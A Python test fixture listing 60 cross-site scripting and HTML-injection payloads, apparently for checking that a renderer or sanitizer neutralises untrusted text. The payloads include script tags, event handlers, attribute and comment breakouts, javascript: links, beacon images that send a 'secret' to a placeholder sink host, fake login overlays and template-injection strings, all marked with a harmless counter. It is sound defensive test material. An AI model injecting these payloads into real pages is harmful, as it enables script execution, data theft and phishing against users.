"""Words that try to be more than words: 60 of them, each wherever a stranger's words may stand.

`{sink}` becomes the address of a server that counts who comes. A script that runs raises
`window.hit`.
"""

from __future__ import annotations

PAYLOADS = (
    # scripts
    "<script>window.hit++</script>",
    "<script src={sink}/a.js></script>",
    "</script><script>window.hit++</script>",
    "<ScRiPt\n>window.hit++</sCrIpT\t>",
    "<<script>script>window.hit++<</script>/script>",
    "<svg><script>window.hit++</script></svg>",
    "<svg onload=window.hit++>",
    "<svg><animate onbegin=window.hit++ attributeName=x dur=1s>",
    "<img src=x onerror=window.hit++>",
    '<img src="x`` `" onerror="window.hit++">',
    "<body onload=window.hit++>",
    "<details open ontoggle=window.hit++>open</details>",
    "<video><source onerror=window.hit++></video>",
    "<input autofocus onfocus=window.hit++>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit++>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit++>'>",
    "<template><script>window.hit++</script></template>",
    "<iframe srcdoc='<script>parent.hit++</script>'></iframe>",
    "&lt;script&gt;window.hit++&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit++&#62;",
    "\\u003cscript\\u003ewindow.hit++\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.hit++%3C/script%3E",
    # out of an attribute, a comment, an element
    '" onmouseover="window.hit++" x="',
    "' onfocus='window.hit++' autofocus x='",
    '"><script>window.hit++</script><b x="',
    "--><script>window.hit++</script><!--",
    "]]><script>window.hit++</script>",
    "</textarea><script>window.hit++</script>",
    "</title></style></noscript><img src=x onerror=window.hit++>",
    "`onclick=window.hit++ x=`",
    # addresses that run or fetch
    '<a href="javascript:window.hit++">read more</a>',
    "<a href=' java&#09;script:window.hit++'>read more</a>",
    "[read more](javascript:window.hit++)",
    "<form action=javascript:window.hit++><button>Send</button></form>",
    "<object data=data:text/html,<script>parent.hit++</script>></object>",
    "<embed src={sink}/e.swf>",
    "<iframe src={sink}/frame></iframe>",
    "<img src={sink}/pixel.png?q=secret>",
    "<img srcset='{sink}/1x.png 1x, {sink}/2x.png 2x'>",
    "![chart]({sink}/chart.png?q=secret)",
    "![chart][1]\n\n[1]: {sink}/reference.png",
    "<link rel=stylesheet href={sink}/s.css><link rel=prefetch href={sink}/p>",
    "<meta http-equiv=refresh content='0;url={sink}/meta'>",
    "<base href={sink}/>",
    "<audio src={sink}/a.mp3 autoplay></audio><video poster={sink}/v.png></video>",
    "<form action={sink}/form><input name=q><button id=send>Send</button></form>",
    # looks
    "</p><style>body{{display:none}}</style>",
    "<style>@import '{sink}/import.css';</style>",
    "<div style='position:fixed;inset:0;background:url({sink}/bg.png)'>Log in again</div>",
    '<span class="verdict verdict-supported">Supported</span>',
    '<button class="chip" data-source="x:0:1">1</button><mark class="cited">true</mark>',
    "<p id=conversation class=turn>Another answer</p><img name=bylinePage id=bylinePage>",
    "<dialog open><h1>Your session has ended</h1></dialog>",
    # other languages of the page
    "```mermaid\ngraph TD; A[<img src=x onerror=window.hit++>]-->B\n```",
    "$$\\href{{javascript:window.hit++}}{{x}}$$ \\(\\includegraphics{{{sink}/x.png}}\\)",
    "${{window.hit++}} {{{{constructor.constructor('window.hit++')()}}}} <%= window.hit++ %>",
    "{{@html '<img src=x onerror=window.hit++>'}} {{#if 1}}x{{/if}}",
    "<x-card><slot onslotchange=window.hit++></slot></x-card>",
    "\u202e<script>window.hit++</script>\u202c \u200bhidden\U000e0041 \ufeffx",
    "＜script＞window.hit++＜/script＞ ‹img src=x onerror=window.hit++›",
)


def payloads(sink: str) -> tuple[str, ...]:
    """All of them, calling the server at `sink`."""
    return tuple(payload.format(sink=sink) for payload in PAYLOADS)
